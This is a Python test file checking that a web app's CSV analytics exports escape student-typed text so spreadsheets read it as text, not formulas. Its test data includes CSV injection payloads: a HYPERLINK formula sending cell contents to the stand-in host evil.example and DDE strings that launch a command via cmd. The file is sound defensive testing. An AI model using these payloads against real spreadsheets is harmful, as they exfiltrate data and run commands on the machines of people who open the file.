"""Issue 20.5: what students type reaches the creator's spreadsheet as text, never as a formula."""
from __future__ import annotations

import csv
import io
from datetime import date

from chronos.web.downloads import csv_lines
from tests.conftest import ask
from tests.test_people import invite, join

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0"]


def _export(owner, report: str) -> list[list[str]]:
    today = date.today().isoformat()
    res = owner.get(f"/api/analytics/export?report={report}&from={today}&to={today}")
    assert res.status_code == 200
    return list(csv.reader(io.StringIO(res.get_data(as_text=True), newline="")))


def test_questions_and_names_that_start_a_formula_export_as_text(app, owner_client):
    student, res = join(app, invite(owner_client), {"name": "=cmd|' /C calc'!A0", "username": "mal",
                                                    "password": "compilers rule"})
    assert res.status_code == 302
    for text in ATTACKS:
        ask(student, text)
    chat = _export(owner_client, "chat")
    header, rows = chat[0], chat[1:]
    questions = [r[header.index("question")] for r in rows]
    assert questions == ["'" + text for text in ATTACKS]
    assert {r[header.index("student")] for r in rows} == {"'=cmd|' /C calc'!A0"}
    students = _export(owner_client, "students")
    assert students[1][students[0].index("name")] == "'=cmd|' /C calc'!A0"


def test_ordinary_text_and_numbers_are_left_as_they_are(app, owner_client):
    student, _ = join(app, invite(owner_client))
    ask(student, "What is 2-1? And is a=b?")
    chat = _export(owner_client, "chat")
    header, row = chat[0], chat[1]
    assert row[header.index("question")] == "What is 2-1? And is a=b?"
    assert row[header.index("student")] == "Grace Hopper"
    assert row[header.index("student_id")].isdigit()


def test_a_leading_tab_or_carriage_return_is_neutralised_too():
    # Chat and sign-up trim what students type, so these reach a CSV only from other fields.
    lines = list(csv_lines([["\t=1+1", "\r=1+1", "=1", -2, 2.5, None, "a=b"]]))
    assert list(csv.reader(io.StringIO(lines[0], newline=""))) == [
        ["'\t=1+1", "'\r=1+1", "'=1", "-2", "2.5", "", "a=b"]]
